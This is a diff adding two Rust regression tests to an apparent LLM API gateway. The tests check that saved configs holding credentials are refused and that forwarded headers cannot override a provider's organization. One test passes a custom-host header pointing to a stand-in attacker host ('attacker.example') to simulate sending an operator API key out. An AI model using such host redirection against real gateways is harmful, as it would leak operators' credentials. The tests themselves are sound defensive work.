@@ -357,3 +357,40 @@ fn messages_with_an_openai_target_is_a_400_and_a_fallback_moves_on() {
     assert_eq!(a.status, 200, "{}", a.text());
     assert_eq!(w.sent.borrow().len(), 1);
 }
+
+/// A saved config is shared by every key holder: credentials in it are refused (they would be
+/// treated as the caller's own and could be signed toward a caller's custom host).
+#[test]
+fn saved_configs_may_not_hold_credentials() {
+    let w = world();
+    w.kv.0.borrow_mut().insert(
+        "config:pc-leaky".into(),
+        json!({"provider": "openai", "api_key": "sk-operator-secret-0000"}).to_string(),
+    );
+    let a = post(
+        &w,
+        &[
+            ("x-portkey-api-key", TEST_GATEWAY_KEY),
+            ("x-portkey-config", "pc-leaky"),
+            ("x-portkey-custom-host", "https://attacker.example/v1"),
+        ],
+        &chat("gpt-4o-mini"),
+    );
+    assert_eq!(a.status, 500, "{}", a.text());
+    assert!(!a.text().contains("sk-operator-secret"));
+    assert!(w.sent.borrow().is_empty());
+}
+
+/// Forwarded headers never replace what a provider sets from its record.
+#[test]
+fn forwarded_headers_cannot_replace_the_records_organization() {
+    let w = world();
+    let h = [
+        ("x-portkey-api-key", TEST_GATEWAY_KEY),
+        ("x-portkey-forward-headers", "openai-organization"),
+        ("openai-organization", "org-attacker"),
+    ];
+    let a = post(&w, &h, &chat("@openai-prod/gpt-4o-mini"));
+    assert_eq!(a.status, 400, "{}", a.text());
+    assert!(w.sent.borrow().is_empty());
+}
